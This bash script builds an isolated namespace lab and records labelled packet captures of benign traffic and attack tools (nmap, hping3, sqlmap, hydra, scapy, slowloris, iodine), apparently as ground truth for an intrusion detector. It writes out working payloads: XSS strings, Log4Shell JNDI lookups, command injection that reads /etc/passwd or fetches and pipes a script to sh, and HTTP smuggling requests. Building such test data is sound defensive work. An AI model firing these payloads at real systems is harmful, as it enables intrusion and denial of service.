#!/usr/bin/env bash
# Record samples/attacks/<scenario>.pcap: benign sessions and real attack
# tools, each in its own capture, plus samples/attacks/ground-truth.tsv.
# Run as root:   bash samples/lab/attacks.sh      (or: make lab-attacks)
#
# Topology (IPv4 only, IPv6 disabled; no default route, no route out, nothing
# on the host's interfaces; tcpdump runs on the bridge inside the node ns):
#
#   osprey-atk-node      bridge br0 (no address)
#     |- veth-dns    <-> osprey-atk-dns      10.244.0.2   dnsmasq :53
#     |                                      10.244.0.3   iodined :53 (tunnel 172.30.0.1/27)
#     |                                      10.244.0.4   axfr_server.py :53/tcp (allows AXFR of corp.lab)
#     |- veth-victim <-> osprey-atk-victim   10.244.0.10  nginx :80 (/admin/ basic auth),
#     |                                        vulnapp.py :8080, sshd :22, redis :6379 (AUTH),
#     |                                        ftp_stub.py :21, openssl s_server :4433 (TLS1.2+)
#     |                                        and :4434 (TLS1.0+, SECLEVEL=0)
#     |- veth-c1     <-> osprey-atk-client1  10.244.0.30  benign client
#     |- veth-c2     <-> osprey-atk-client2  10.244.0.31  benign client
#     `- veth-atk    <-> osprey-atk-attacker 10.244.0.66  nmap, hping3, sqlmap, hydra, scapy, ...
#
# Every generator is bounded by a count and by `timeout`.  A trap removes the
# namespaces and every process in them on exit, even on failure.
#
# Environment:
#   ONLY="a b"   record only these scenarios (their rows in ground-truth.tsv are
#                replaced, the other rows kept)
#   LIST=1       print the scenario names and exit
#   LAB_PREFIX   namespace name prefix (default osprey-atk)
#   OUT_DIR      output dir (default samples/attacks)
set -euo pipefail

HERE="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
PREFIX="${LAB_PREFIX:-osprey-atk}"
OUT_DIR="${OUT_DIR:-$(cd "$HERE/.." && pwd)/attacks}"
PY=/usr/bin/python3 # Debian's python3 (python3-scapy is installed for it)

NS_NODE="$PREFIX-node"
NS_DNS="$PREFIX-dns"
NS_VIC="$PREFIX-victim"
NS_C1="$PREFIX-client1"
NS_C2="$PREFIX-client2"
NS_ATK="$PREFIX-attacker"
PODS=("$NS_DNS" "$NS_VIC" "$NS_C1" "$NS_C2" "$NS_ATK")
IP_DNS=10.244.0.2
IP_IOD=10.244.0.3
IP_AXFR=10.244.0.4
IP_VIC=10.244.0.10
IP_C1=10.244.0.30
IP_C2=10.244.0.31
IP_ATK=10.244.0.66
REDIS_PASS='Redis-lab-pass-1'
FTP_USER=ftpuser
FTP_PASS='Ftp-lab-pass-1'
WEB_USER='admin'
WEB_PASS='Web-lab-pass-1'

# name | kind | expected categories | attacker | victim  (order = output order)
SCENARIOS=(
    "benign-mixed|benign||$IP_C1|$IP_VIC"
    "benign-http-burst|benign||$IP_C1,$IP_C2|$IP_VIC"
    "nmap-syn-scan|attack|port_scan|$IP_ATK|$IP_VIC"
    "nmap-connect-scan|attack|port_scan|$IP_ATK|$IP_VIC"
    "nmap-udp-scan|attack|port_scan|$IP_ATK|$IP_VIC"
    "nmap-ping-sweep|attack|host_sweep|$IP_ATK|10.244.0.0/24"
    "hping-syn-flood|attack|syn_flood|$IP_ATK|$IP_VIC"
    "scapy-syn-flood-spoofed|attack|syn_flood|10.244.0.100-10.244.0.250|$IP_VIC"
    "hping-icmp-flood|attack|icmp_flood|$IP_ATK|$IP_VIC"
    "hping-udp-flood|attack|udp_flood|$IP_ATK|$IP_VIC"
    "hping-syn-data|attack|syn_with_data|$IP_ATK|$IP_VIC"
    "hping-small-mss|attack|small_mss|$IP_ATK|$IP_VIC"
    "scapy-teardrop|attack|teardrop,frag_overlap|$IP_ATK|$IP_VIC"
    "scapy-frag-overlap|attack|frag_overlap|$IP_ATK|$IP_VIC"
    "scapy-ping-of-death|attack|ping_of_death|$IP_ATK|$IP_VIC"
    "scapy-invalid-tcp|attack|invalid_packet|$IP_ATK|$IP_VIC"
    "scapy-split-handshake|attack|tcp_split_handshake|10.244.0.99|$IP_ATK"
    "sqlmap|attack|sql_injection|$IP_ATK|$IP_VIC"
    "web-xss|attack|xss|$IP_ATK|$IP_VIC"
    "web-log4shell|attack|rce_injection|$IP_ATK|$IP_VIC"
    "web-cmd-injection|attack|rce_injection|$IP_ATK|$IP_VIC"
    "http-smuggling|attack|http_smuggling|$IP_ATK|$IP_VIC"
    "slowloris|attack|slowloris|$IP_ATK|$IP_VIC"
    "conn-exhaust|attack|session_limit|$IP_ATK|$IP_VIC"
    "brute-ssh|attack|brute_force|$IP_ATK|$IP_VIC"
    "brute-redis|attack|brute_force,cleartext_credentials|$IP_ATK|$IP_VIC"
    "brute-ftp|attack|brute_force,cleartext_credentials|$IP_ATK|$IP_VIC"
    "brute-http-basic|attack|brute_force,cleartext_credentials|$IP_ATK|$IP_VIC"
    "cleartext-logins|attack|cleartext_credentials|$IP_C1|$IP_VIC"
    "dns-axfr|attack|dns_zone_transfer|$IP_ATK|$IP_AXFR,$IP_DNS"
    "dns-iodine|attack|dns_tunnel,dns_null_type|$IP_ATK|$IP_IOD"
    "dns-txt-burst|attack|dns_tunnel|$IP_ATK|$IP_DNS"
    "dns-null-burst|attack|dns_tunnel,dns_null_type|$IP_ATK|$IP_DNS"
    "dns-loop-pointer|attack|dns_loop_pointer|$IP_ATK|$IP_DNS"
    "dlp-credit-card|attack|dlp_credit_card|$IP_C1|$IP_VIC"
    "dlp-ssn|attack|dlp_ssn|$IP_C1|$IP_VIC"
    "benign-dlp-control|benign||$IP_C1|$IP_VIC"
    "tls-old-version|attack|tls_old_version|$IP_ATK|$IP_VIC"
    "tls-heartbleed|attack|heartbleed|$IP_ATK|$IP_VIC"
    "ssh-v1-banner|attack|ssh_v1|$IP_ATK|$IP_VIC"
)

if [[ "${LIST:-0}" == 1 ]]; then
    for s in "${SCENARIOS[@]}"; do echo "${s%%|*}"; done
    exit 0
fi

log() { printf '[atk] %s\n' "$*" >&2; }
die() { log "ERROR: $*"; exit 1; }
BRIDGE=br0
# shellcheck source=samples/lab/lib.sh
source "$HERE/lib.sh"
[[ $EUID -eq 0 ]] || die "must run as root (network namespaces, tcpdump)"

# ------------------------------------------------------------------ tools
need_pkgs=()
need() { command -v "$1" >/dev/null 2>&1 || need_pkgs+=("$2"); }
need ip iproute2
need ss iproute2
need tcpdump tcpdump
need capinfos wireshark-common
need tshark tshark
need ethtool ethtool
need curl curl
need dig bind9-dnsutils
need dnsmasq dnsmasq-base
need redis-server redis-server
need redis-cli redis-tools
need nc netcat-openbsd
need nginx nginx-light
need sshd openssh-server
need ssh openssh-client
need openssl openssl
need nmap nmap
need hping3 hping3
need sqlmap sqlmap
need hydra hydra
need slowhttptest slowhttptest
need iodined iodine
[[ -x $PY ]] || need_pkgs+=(python3)
$PY -c 'import scapy' 2>/dev/null || need_pkgs+=(python3-scapy)
if ((${#need_pkgs[@]})); then
    [[ "${NO_INSTALL:-0}" == 1 ]] && die "missing packages: ${need_pkgs[*]}"
    log "installing: ${need_pkgs[*]}"
    export DEBIAN_FRONTEND=noninteractive
    echo "wireshark-common wireshark-common/install-setuid boolean false" | debconf-set-selections
    apt-get update -qq
    apt-get install -y -qq --no-install-recommends "${need_pkgs[@]}" >/dev/null
fi

# ------------------------------------------------------------------ cleanup
TMP="$(mktemp -d /tmp/osprey-atk.XXXXXX)"
chmod 755 "$TMP"
TCPDUMP_PID=


cleanup() {
    local rc=$?
    set +e
    [[ -n "$TCPDUMP_PID" ]] && kill -TERM "$TCPDUMP_PID" 2>/dev/null
    lab_teardown "${PODS[@]}" "$NS_NODE"
    if ((rc != 0)); then
        log "failed (exit $rc); logs kept in $TMP"
        tail -n 5 "$TMP"/*.log 2>/dev/null >&2
    else
        rm -rf "$TMP"
    fi
    exit "$rc"
}
trap cleanup EXIT
trap 'exit 130' INT
trap 'exit 143' TERM

lab_remove_stale

# ------------------------------------------------------------------ topology
lab_node
add_pod "$NS_DNS" dns "$IP_DNS"
in_ns "$NS_DNS" ip addr add "$IP_IOD/24" dev eth0
in_ns "$NS_DNS" ip addr add "$IP_AXFR/24" dev eth0
add_pod "$NS_VIC" victim "$IP_VIC"
add_pod "$NS_C1" c1 "$IP_C1"
add_pod "$NS_C2" c2 "$IP_C2"
add_pod "$NS_ATK" atk "$IP_ATK"
# no ICMP rate limit on the victim, so UDP scans and floods get their answers
in_ns "$NS_VIC" sysctl -qw net.ipv4.icmp_ratelimit=0
for ns in "${PODS[@]}" "$NS_NODE"; do
    [[ -z "$(in_ns "$ns" ip route show default)" ]] || die "$ns has a default route"
done
log "namespaces up: $NS_NODE ${PODS[*]}"

# ------------------------------------------------------------------ servers
mkdir -p "$TMP/www/admin" "$TMP/redis" "$TMP/nginx" /run/sshd
for p in index about contact products; do
    printf '<!doctype html><html><head><title>%s</title></head><body><h1>osprey %s</h1><p>%s</p></body></html>\n' \
        "$p" "$p" "Plain page $p of the lab web server." >"$TMP/www/$p.html"
done
printf '<p>admin area</p>\n' >"$TMP/www/admin/index.html"
printf '%s:%s\n' "$WEB_USER" "$(openssl passwd -apr1 "$WEB_PASS")" >"$TMP/htpasswd"
cat >"$TMP/nginx.conf" <<NGINX
user root;
worker_processes 1;
pid $TMP/nginx.pid;
error_log $TMP/nginx-error.log warn;
events { worker_connections 1024; }
http {
    access_log $TMP/nginx-access.log;
    client_body_temp_path $TMP/nginx;
    proxy_temp_path $TMP/nginx;
    fastcgi_temp_path $TMP/nginx;
    uwsgi_temp_path $TMP/nginx;
    scgi_temp_path $TMP/nginx;
    default_type text/html;
    keepalive_timeout 10;
    client_header_timeout 30;
    server {
        listen $IP_VIC:80;
        root $TMP/www;
        index index.html;
        location /admin/ { auth_basic "osprey admin"; auth_basic_user_file $TMP/htpasswd; }
        location /form { proxy_pass http://$IP_VIC:8080; }
    }
}
NGINX

openssl req -x509 -newkey rsa:2048 -nodes -subj /CN=victim.osprey.lab -days 30 \
    -keyout "$TMP/tls.key" -out "$TMP/tls.crt" 2>/dev/null
ssh-keygen -q -t ed25519 -N '' -f "$TMP/ssh_host_ed25519_key"
ssh-keygen -q -t ed25519 -N '' -f "$TMP/client_key"
cp "$TMP/client_key.pub" "$TMP/authorized_keys"
cat >"$TMP/sshd_config" <<SSHD
ListenAddress $IP_VIC
HostKey $TMP/ssh_host_ed25519_key
PidFile $TMP/sshd.pid
PermitRootLogin prohibit-password
AuthorizedKeysFile $TMP/authorized_keys
StrictModes no
PasswordAuthentication yes
KbdInteractiveAuthentication no
UsePAM no
MaxAuthTries 30
MaxStartups 100
LoginGraceTime 20
LogLevel ERROR
SSHD

in_ns "$NS_DNS" dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts \
    --no-poll --bind-interfaces --listen-address="$IP_DNS" --user=root --group=root \
    --pid-file --local=/osprey.lab/ \
    --host-record=victim.osprey.lab,"$IP_VIC" \
    --host-record=www.osprey.lab,"$IP_VIC" \
    --host-record=v6.osprey.lab,fd00:244::10 \
    --mx-host=osprey.lab,mail.osprey.lab,10 \
    --host-record=mail.osprey.lab,"$IP_VIC" \
    --txt-record=osprey.lab,"v=spf1 ip4:10.244.0.0/24 -all" \
    --log-queries --log-facility=- >"$TMP/dnsmasq.log" 2>&1 &
in_ns "$NS_DNS" iodined -f -c -P 'iodine-lab-pw' -l "$IP_IOD" -p 53 172.30.0.1/27 t.osprey.lab \
    >"$TMP/iodined.log" 2>&1 &
in_ns "$NS_DNS" $PY "$HERE/axfr_server.py" "$IP_AXFR" corp.lab >"$TMP/axfr.log" 2>&1 &
in_ns "$NS_VIC" nginx -c "$TMP/nginx.conf" -g 'daemon off;' >"$TMP/nginx.log" 2>&1 &
in_ns "$NS_VIC" $PY "$HERE/vulnapp.py" --bind "$IP_VIC" --port 8080 >"$TMP/vulnapp.log" 2>&1 &
in_ns "$NS_VIC" /usr/sbin/sshd -D -e -f "$TMP/sshd_config" >"$TMP/sshd.log" 2>&1 &
in_ns "$NS_VIC" redis-server --bind "$IP_VIC" --port 6379 --protected-mode no --save '' \
    --appendonly no --daemonize no --dir "$TMP/redis" --requirepass "$REDIS_PASS" \
    --logfile '' >"$TMP/redis.log" 2>&1 &
in_ns "$NS_VIC" $PY "$HERE/ftp_stub.py" "$IP_VIC" 21 "$FTP_USER" "$FTP_PASS" >"$TMP/ftp.log" 2>&1 &
in_ns "$NS_VIC" openssl s_server -accept "$IP_VIC:4433" -cert "$TMP/tls.crt" -key "$TMP/tls.key" \
    -www -min_protocol TLSv1.2 >"$TMP/tls.log" 2>&1 </dev/null &
in_ns "$NS_VIC" openssl s_server -accept "$IP_VIC:4434" -cert "$TMP/tls.crt" -key "$TMP/tls.key" \
    -www -cipher 'DEFAULT@SECLEVEL=0' -min_protocol TLSv1 -max_protocol TLSv1.2 \
    >"$TMP/tls-old.log" 2>&1 </dev/null &

wait_listen() { # ns proto(t|u) ip:port
    local ns="$1" proto="$2" addr="$3"
    for _ in $(seq 1 100); do
        in_ns "$ns" ss -Hln"$proto" | awk '{print $4}' | grep -qx "$addr" && return 0
        sleep 0.1
    done
    die "nothing listening on $proto $addr in $ns"
}
wait_listen "$NS_DNS" u "$IP_DNS:53"
wait_listen "$NS_DNS" t "$IP_DNS:53"
wait_listen "$NS_DNS" u "$IP_IOD:53"
wait_listen "$NS_DNS" t "$IP_AXFR:53"
for port in 21 22 80 4433 4434 6379 8080; do wait_listen "$NS_VIC" t "$IP_VIC:$port"; done
log "servers listening"

# ------------------------------------------------------------------ helpers
V() { in_ns "$NS_VIC" "$@"; }
C1() { in_ns "$NS_C1" timeout 20 "$@"; }
C2() { in_ns "$NS_C2" timeout 20 "$@"; }
A() { in_ns "$NS_ATK" "$@"; }
CURL=(curl -sS -o /dev/null --max-time 5)

wordlist() { # 20 wrong passwords
    for i in $(seq -w 1 20); do printf 'wrong-pass-%s\n' "$i"; done
}
wordlist >"$TMP/words.txt"

# ------------------------------------------------------------------ scenarios
# Each scn_<name> generates the traffic of one scenario.  Attack tools exit
# non-zero for many expected reasons (refused, 401, timeouts): callers only
# fail a scenario when its capture has too few packets.

scn_benign-mixed() {
    C1 "${CURL[@]}" -o /dev/null -o /dev/null \
        "http://$IP_VIC/" "http://$IP_VIC/about.html" "http://$IP_VIC/products.html"
    C1 "${CURL[@]}" "http://$IP_VIC/contact.html"
    C1 "${CURL[@]}" -d 'name=Alice+Martin&email=alice%40example.org&message=Hello%2C+please+call+me+back+tomorrow.' \
        "http://$IP_VIC/form"
    for t in A AAAA MX TXT; do
        case $t in A) n=victim.osprey.lab ;; AAAA) n=v6.osprey.lab ;; *) n=osprey.lab ;; esac
        C1 dig +tries=1 +time=2 @"$IP_DNS" "$n" "$t" >/dev/null
    done
    C1 redis-cli -h "$IP_VIC" -a "$REDIS_PASS" --no-auth-warning SET cart:42 3 >/dev/null
    C1 redis-cli -h "$IP_VIC" -a "$REDIS_PASS" --no-auth-warning GET cart:42 >/dev/null
    C1 ssh -i "$TMP/client_key" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
        -o BatchMode=yes -o LogLevel=ERROR root@"$IP_VIC" true
    C1 openssl s_client -connect "$IP_VIC:4433" -tls1_2 -servername victim.osprey.lab </dev/null >/dev/null 2>&1
    C1 openssl s_client -connect "$IP_VIC:4433" -tls1_3 -servername victim.osprey.lab </dev/null >/dev/null 2>&1
}

scn_benign-http-burst() {
    local pages=(/ /about.html /contact.html /products.html)
    burst() {
        local ns="$1" i
        for i in $(seq 0 99); do
            in_ns "$ns" curl -sS -o /dev/null --max-time 5 "http://$IP_VIC${pages[i % 4]}" || true
            sleep 0.02
        done
    }
    burst "$NS_C1" & local p1=$!
    burst "$NS_C2" & local p2=$!
    wait "$p1" "$p2"
}

scn_nmap-syn-scan() {
    A timeout 60 nmap -n -Pn -sS -p 1-200 -T4 --max-rate 1000 --max-retries 1 \
        --host-timeout 50s "$IP_VIC" >"$TMP/nmap-syn.txt"
}
scn_nmap-connect-scan() {
    A timeout 60 nmap -n -Pn -sT -p 1-200 -T4 --max-rate 1000 --max-retries 1 \
        --host-timeout 50s "$IP_VIC" >"$TMP/nmap-connect.txt"
}
scn_nmap-udp-scan() {
    A timeout 60 nmap -n -Pn -sU --top-ports 50 -T4 --max-rate 500 --max-retries 1 \
        --host-timeout 50s "$IP_VIC" >"$TMP/nmap-udp.txt"
}
scn_nmap-ping-sweep() {
    # On one L2 segment nmap would ARP-ping; --send-ip forces ICMP echo.  The
    # absent hosts get static neighbour entries so their echo requests reach the
    # wire (the bridge floods them) instead of dying in ARP resolution.
    local i
    for i in $(seq 1 254); do
        case $i in 2 | 3 | 4 | 10 | 30 | 31 | 66) continue ;; esac
        A ip neigh replace "10.244.0.$i" lladdr "$(mac_of "10.244.0.$i")" dev eth0 nud permanent
    done
    A timeout 60 nmap -n -sn -PE --send-ip -T4 --max-rate 300 --max-retries 1 \
        10.244.0.0/24 >"$TMP/nmap-sweep.txt"
    A ip neigh flush dev eth0 nud permanent
}

scn_hping-syn-flood() { A timeout 10 hping3 -q -S -p 80 -i u100 -c 1200 "$IP_VIC" >/dev/null 2>&1; }
scn_scapy-syn-flood-spoofed() {
    # The victim's SYN-ACKs wait on ARP for hosts that do not exist.  With no
    # SYN-ACK retransmission that ARP ends within ~3 s, inside this capture,
    # instead of spilling into the next scenarios for a minute.
    V sysctl -qw net.ipv4.tcp_synack_retries=0
    A timeout 30 $PY "$HERE/craft.py" synflood "$IP_VIC" 1500
    sleep 4
    V sysctl -qw net.ipv4.tcp_synack_retries=5
}
scn_hping-icmp-flood() { A timeout 10 hping3 -q -1 -i u100 -c 1200 "$IP_VIC" >/dev/null 2>&1; }
scn_hping-udp-flood() { A timeout 10 hping3 -q -2 -p 9999 -i u100 -c 1200 -d 64 "$IP_VIC" >/dev/null 2>&1; }
scn_hping-syn-data() { A timeout 10 hping3 -q -S -p 80 -d 100 -i u200000 -c 5 "$IP_VIC" >/dev/null 2>&1; }
scn_hping-small-mss() { A timeout 10 hping3 -q -S -p 80 --tcp-mss 16 -i u200000 -c 5 "$IP_VIC" >/dev/null 2>&1; }

scn_scapy-teardrop() { A timeout 20 $PY "$HERE/craft.py" teardrop "$IP_VIC"; }
scn_scapy-frag-overlap() { A timeout 20 $PY "$HERE/craft.py" overlap "$IP_VIC"; }
scn_scapy-ping-of-death() { A timeout 30 $PY "$HERE/craft.py" pod "$IP_VIC"; }
scn_scapy-invalid-tcp() { A timeout 20 $PY "$HERE/craft.py" invalid "$IP_VIC"; }
scn_scapy-split-handshake() { A timeout 20 $PY "$HERE/craft.py" splitsyn "$IP_ATK" 10.244.0.99; }

scn_sqlmap() {
    A timeout 90 sqlmap -u "http://$IP_VIC:8080/item?id=1" --batch --level 1 --risk 1 \
        --technique=BU --flush-session --threads 1 --output-dir "$TMP/sqlmap" \
        --disable-coloring >"$TMP/sqlmap.txt" 2>&1
}
scn_web-xss() {
    A "${CURL[@]}" "http://$IP_VIC:8080/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"
    A "${CURL[@]}" --path-as-is "http://$IP_VIC:8080/search?q=<script>alert(document.cookie)</script>"
    A "${CURL[@]}" "http://$IP_VIC:8080/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"
    A "${CURL[@]}" --data-urlencode 'comment=<svg onload=alert(1)>' "http://$IP_VIC:8080/form"
}
scn_web-log4shell() {
    A "${CURL[@]}" -A "\${jndi:ldap://$IP_ATK:1389/Exploit}" "http://$IP_VIC/"
    A "${CURL[@]}" -H "X-Api-Version: \${jndi:ldap://$IP_ATK:1389/a}" "http://$IP_VIC:8080/"
    A "${CURL[@]}" -A "\${\${lower:j}ndi:\${lower:l}dap://$IP_ATK/x}" "http://$IP_VIC:8080/search?q=x"
}
scn_web-cmd-injection() {
    A "${CURL[@]}" "http://$IP_VIC:8080/ping?host=127.0.0.1;cat%20/etc/passwd"
    A "${CURL[@]}" "http://$IP_VIC:8080/ping?host=127.0.0.1%7Cid"
    A "${CURL[@]}" "http://$IP_VIC:8080/ping?host=%24(wget%20http://$IP_ATK/x.sh%20-O-%7Csh)"
    A "${CURL[@]}" -d 'host=8.8.8.8`uname -a`' "http://$IP_VIC:8080/form"
}
scn_http-smuggling() {
    # CL.TE: both Content-Length and Transfer-Encoding: chunked
    printf 'POST / HTTP/1.1\r\nHost: %s\r\nContent-Length: 44\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /admin/ HTTP/1.1\r\nHost: %s\r\n\r\n' \
        "$IP_VIC" "$IP_VIC" | A timeout 5 nc -N -w 3 "$IP_VIC" 80 >/dev/null
    # TE.CL with an obfuscated Transfer-Encoding header
    printf 'POST /form HTTP/1.1\r\nHost: %s\r\nContent-Length: 4\r\nTransfer-Encoding : chunked\r\n\r\n5c\r\nGPOST / HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 15\r\n\r\nx=1\r\n0\r\n\r\n' \
        "$IP_VIC" | A timeout 5 nc -N -w 3 "$IP_VIC" 8080 >/dev/null
}
scn_slowloris() {
    (cd "$TMP" && A timeout 40 slowhttptest -H -c 50 -r 25 -i 5 -l 15 -s 8192 -t GET \
        -u "http://$IP_VIC/" -p 3 -o "$TMP/slowloris" >"$TMP/slowhttptest.txt" 2>&1)
}
scn_conn-exhaust() { A timeout 30 $PY "$HERE/conn_hold.py" "$IP_VIC" 80 400 3 >"$TMP/conn.txt"; }

scn_brute-ssh() {
    A timeout 60 hydra -I -t 4 -l admin -P "$TMP/words.txt" "ssh://$IP_VIC" >"$TMP/hydra-ssh.txt" 2>&1
}
scn_brute-redis() {
    A timeout 60 hydra -I -t 4 -P "$TMP/words.txt" "redis://$IP_VIC" >"$TMP/hydra-redis.txt" 2>&1
}
scn_brute-ftp() {
    A timeout 60 hydra -I -t 4 -l "$FTP_USER" -P "$TMP/words.txt" "ftp://$IP_VIC" >"$TMP/hydra-ftp.txt" 2>&1
}
scn_brute-http-basic() {
    local w
    while read -r w; do
        A "${CURL[@]}" -u "$WEB_USER:$w" "http://$IP_VIC/admin/" || true
    done <"$TMP/words.txt"
}
scn_cleartext-logins() {
    printf 'USER %s\r\nPASS %s\r\nSYST\r\nQUIT\r\n' "$FTP_USER" "$FTP_PASS" |
        C1 nc -N -w 3 "$IP_VIC" 21 >/dev/null
    C1 "${CURL[@]}" -u "$WEB_USER:$WEB_PASS" "http://$IP_VIC/admin/"
    C1 redis-cli -h "$IP_VIC" -a "$REDIS_PASS" --no-auth-warning PING >/dev/null
}

scn_dns-axfr() {
    # a transfer that succeeds, then one that dnsmasq does not serve
    A timeout 10 dig +tries=1 +time=3 @"$IP_AXFR" corp.lab AXFR >"$TMP/axfr-ok.txt" || true
    grep -q 'jenkins.corp.lab' "$TMP/axfr-ok.txt" || log "  AXFR from $IP_AXFR did not transfer"
    A timeout 10 dig +tries=1 +time=3 @"$IP_DNS" osprey.lab AXFR >"$TMP/axfr.txt" || true
    A timeout 10 dig +tries=1 +time=3 @"$IP_DNS" osprey.lab IXFR=1 >/dev/null || true
}
scn_dns-iodine() {
    A timeout 25 iodine -f -r -P 'iodine-lab-pw' -m 220 "$IP_IOD" t.osprey.lab >"$TMP/iodine.log" 2>&1 &
    local ip=$!
    local ok=0
    for _ in $(seq 1 80); do
        if A ip -4 addr show 2>/dev/null | grep -q '172\.30\.0\.'; then ok=1; break; fi
        sleep 0.2
    done
    if ((ok)); then
        sleep 1
        A timeout 15 ping -n -q -c 8 -i 0.3 -s 700 172.30.0.1 >/dev/null || true
    else
        log "iodine: no tunnel address came up"
    fi
    kill -TERM "$ip" 2>/dev/null || true
    wait "$ip" 2>/dev/null || true
}
rand_label() { head -c 30 /dev/urandom | base32 | tr -d '=' | tr 'A-Z' 'a-z' | head -c "$1"; }
scn_dns-txt-burst() {
    local i
    for i in $(seq 1 60); do
        A timeout 3 dig +tries=1 +time=1 @"$IP_DNS" "$(rand_label 48).$(rand_label 40).x.osprey.lab" TXT >/dev/null || true
    done
}
scn_dns-null-burst() {
    local i
    for i in $(seq 1 40); do
        A timeout 3 dig +tries=1 +time=1 @"$IP_DNS" "$(rand_label 50).$(rand_label 40).n.osprey.lab" NULL >/dev/null || true
    done
}
scn_dns-loop-pointer() { A timeout 20 $PY "$HERE/craft.py" dnsloop "$IP_DNS"; }

scn_dlp-credit-card() {
    C1 "${CURL[@]}" -d 'name=Test+Buyer&card=4111+1111+1111+1111&exp=12%2F29&cvv=123' "http://$IP_VIC:8080/order"
    C1 "${CURL[@]}" -H 'Content-Type: application/json' \
        -d '{"customer":"t2","cards":["5500-0000-0000-0004","378282246310005"]}' "http://$IP_VIC:8080/order"
    C1 "${CURL[@]}" -H 'Content-Type: text/plain' --data-binary $'billing export\n4111111111111111;Visa\n5500000000000004;MC\n' \
        "http://$IP_VIC:8080/order"
}
scn_dlp-ssn() {
    C1 "${CURL[@]}" -d 'employee=J+Doe&ssn=457-55-5462&dept=ops' "http://$IP_VIC:8080/form"
    C1 "${CURL[@]}" -H 'Content-Type: text/plain' \
        --data-binary $'name,ssn\nA. Smith,301-42-7788\nB. Jones,524-71-3309\n' "http://$IP_VIC:8080/form"
}
scn_benign-dlp-control() {
    # Luhn-invalid 13-19 digit numbers, phone numbers, and SSN look-alikes with
    # invalid areas/groups/serials (000, 666, 9xx, 00, 0000)
    C1 "${CURL[@]}" -d 'order=4111+1111+1111+1112&ref=5500-0000-0000-0005&tracking=378282246310006' \
        "http://$IP_VIC:8080/order"
    C1 "${CURL[@]}" -H 'Content-Type: text/plain' \
        --data-binary $'phone: 555-123-4567\nfax: 555-987-6543\nids: 000-12-3456 666-12-3456 912-34-5678 457-00-5462 457-55-0000\ninvoice 2026-11-28 #100045\n' \
        "http://$IP_VIC:8080/form"
}

scn_tls-old-version() {
    A timeout 10 openssl s_client -connect "$IP_VIC:4434" -tls1 -cipher 'DEFAULT@SECLEVEL=0' </dev/null >"$TMP/tls1.txt" 2>&1 || true
    A timeout 10 openssl s_client -connect "$IP_VIC:4434" -tls1_1 -cipher 'DEFAULT@SECLEVEL=0' </dev/null >"$TMP/tls11.txt" 2>&1 || true
}
scn_tls-heartbleed() { A timeout 10 $PY "$HERE/tls_probe.py" "$IP_VIC" 4433; }
scn_ssh-v1-banner() {
    printf 'SSH-1.5-OpenSSH_1.2.27\r\n' | A timeout 5 nc -w 3 "$IP_VIC" 22 >"$TMP/sshv1.txt" || true
}

# ------------------------------------------------------------------ recording
declare -A SNAPLEN=(
    [hping-syn-flood]=96 [scapy-syn-flood-spoofed]=96 [hping-icmp-flood]=96 [hping-udp-flood]=128 [nmap-syn-scan]=128
    [nmap-connect-scan]=128 [nmap-udp-scan]=256 [nmap-ping-sweep]=128 [conn-exhaust]=128
    [slowloris]=1024 [benign-http-burst]=256 [scapy-ping-of-death]=128 [sqlmap]=512
)
mkdir -p "$TMP/out" "$TMP/gt"
recorded=()
failed=()

record() { # scenario-line
    local line="$1" name kind cats atk vic snap f n first last
    IFS='|' read -r name kind cats atk vic <<<"$line"
    snap="${SNAPLEN[$name]:-512}"
    f="$TMP/out/$name.pcap"
    log "scenario $name (snaplen $snap)"
    : >"$TMP/tcpdump-$name.log"
    ip netns exec "$NS_NODE" tcpdump -i br0 -n -s "$snap" -U -Z root -w "$f" 2>"$TMP/tcpdump-$name.log" &
    TCPDUMP_PID=$!
    for _ in $(seq 1 50); do
        grep -q 'listening on' "$TMP/tcpdump-$name.log" && break
        sleep 0.1
    done
    sleep 0.3
    "scn_$name" || log "  generator of $name exited $?"
    sleep 1
    kill -TERM "$TCPDUMP_PID"
    wait "$TCPDUMP_PID" || true
    TCPDUMP_PID=
    n="$(capinfos -c -M "$f" | awk -F: '/Number of packets/ {gsub(/ /,"",$2); print $2}')"
    if [[ -z "$n" || "$n" -lt 3 ]]; then
        log "  $name: only ${n:-0} packets, not kept"
        failed+=("$name")
        return 0
    fi
    read -r first last < <(capinfos -T -r -a -e -S "$f" | awk -F'\t' '{print $2, $3}')
    printf '%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\n' "$name" "$kind" "$cats" "$atk" "$vic" \
        "$first" "$last" "$n" >"$TMP/gt/$name"
    recorded+=("$name")
    log "  $name: $n packets, $(stat -c %s "$f") bytes"
}

for line in "${SCENARIOS[@]}"; do
    name="${line%%|*}"
    if [[ -n "${ONLY:-}" ]] && ! grep -qw -- "$name" <<<" $ONLY "; then continue; fi
    record "$line"
done

# ------------------------------------------------------------------ outputs
mkdir -p "$OUT_DIR"
GT="$OUT_DIR/ground-truth.tsv"
HEADER=$'scenario\tkind\tcategories\tattacker\tvictim\tfirst_packet_epoch\tlast_packet_epoch\tpackets'
new_gt="$TMP/ground-truth.tsv"
echo "$HEADER" >"$new_gt"
for line in "${SCENARIOS[@]}"; do
    name="${line%%|*}"
    if [[ -e "$TMP/gt/$name" ]]; then
        cp "$TMP/out/$name.pcap" "$OUT_DIR/$name.pcap"
        cat "$TMP/gt/$name" >>"$new_gt"
    elif [[ -f "$GT" ]]; then
        awk -F'\t' -v n="$name" '$1 == n' "$GT" >>"$new_gt"
    fi
done
cp "$new_gt" "$GT"
# one line per kept pcap: name, packets, bytes, duration, first/last time (UTC)
(
    cd "$OUT_DIR"
    printf 'file\tpackets\tfile_bytes\tduration_s\tfirst_utc\tlast_utc\n'
    for line in "${SCENARIOS[@]}"; do
        f="${line%%|*}.pcap"
        [[ -f "$f" ]] || continue
        TZ=UTC capinfos -T -r -c -s -u -a -e "$f" | awk -F'\t' -v OFS='\t' '{print $1,$2,$3,$4,$5,$6}'
    done
) >"$OUT_DIR/summary.tsv"
log "recorded: ${recorded[*]:-none}"
((${#failed[@]} == 0)) || log "NOT recorded: ${failed[*]}"
log "wrote $GT"
